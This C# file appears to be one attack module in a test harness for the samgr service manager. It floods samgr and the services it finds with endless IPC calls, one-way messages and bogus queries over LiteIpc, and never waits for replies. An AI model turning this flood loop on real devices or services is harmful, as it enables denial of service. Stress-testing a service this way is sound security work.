using LiteIpc;

namespace Samgr.Attacks.Modules;

/// <summary>Calls, one-way messages and questions to samgr at full speed, waiting for no answer.</summary>
internal static class CallFloodAttack
{
    internal static void Run(Attacker attacker)
    {
        SvcIdentity[] victims = attacker.FindVictims();
        HostileLink link = attacker.TakeOver();
        IpcIo echo = new(256);
        echo.WriteInt32(7);
        echo.WriteString("flood");
        IpcIo question = new(256);
        question.WriteInt32(1);
        question.WriteInt32(0);
        question.WriteString("nobody");
        question.WriteBool(true);
        for (int i = 0; ; i++)
        {
            SvcIdentity victim = victims[i % victims.Length];
            int flag = i % 3 == 0 ? IpcFlag.OneWay : IpcFlag.Default;
            link.Post(victim.Handle, victim.Token, i % 2 == 0 ? HonestFunction.Echo : HonestFunction.Rest, flag, echo);
            link.Post(SvcIdentity.SamgrHandle, 0, 0, IpcFlag.Default, question);
            attacker.Line.Count("calls", 2);
        }
    }
}
